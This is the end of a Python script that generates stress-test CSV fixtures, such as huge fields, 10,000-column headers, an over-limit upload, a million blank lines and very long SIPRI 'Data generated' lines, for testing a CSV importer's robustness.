                f"{prefix}-deal-{deal}",
                f"{prefix} deal {deal}" if first else "",
                f"2024-{1 + i % 12:02d}-{1 + i % 28:02d}",
                "negotiating",
                f"Development {i} of {prefix} deal {deal}.",
                "Poland" if first else "",
                "Germany" if first else "",
                f"{prefix} report {i}",
                f"https://example.org/{prefix}/{i}",
                "C",
                "3",
            ]
        )
    return utf8(buffer.getvalue())


GENERATED_AT_TEST_TIME: dict[str, tuple[str, Callable[[], bytes]]] = {
    "big_field.csv": ("a 1 MB single field", big_field),
    "ten_thousand_columns.csv": ("10,000 columns", ten_thousand_columns),
    "one_column_ten_thousand_times.csv": (
        "a header of 10,000 columns, 9,982 of them note",
        one_column_ten_thousand_times,
    ),
    "sipri_big_comment.csv": ("a SIPRI export with a 1 MB Comments cell", sipri_big_comment),
    "over_upload_limit.csv": ("one byte over the 50 MB upload limit", over_upload_limit),
    "million_blank_lines.csv": ("a million blank lines between two records", million_blank_lines),
    "sipri_long_generated_line.csv": (
        'a SIPRI "Data generated" line of 160 KB (a backtracking pattern took 151 s on it)',
        lambda: sipri_export(" " * 160_000 + ";"),
    ),
    "sipri_long_unreadable_generated_line.csv": (
        'a SIPRI "Data generated" line of 160 KB with no date in it',
        lambda: sipri_export(" " * 160_000 + "x", date="1"),
    ),
}


def main() -> int:
    known = set(CORPUS)
    for stale in HERE.glob("*.csv"):
        if stale.name not in known:
            stale.unlink()
    for name, (_what, build) in CORPUS.items():
        (HERE / name).write_bytes(build())
    print(f"wrote {len(CORPUS)} files to {HERE} (+{len(GENERATED_AT_TEST_TIME)} built at test time)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
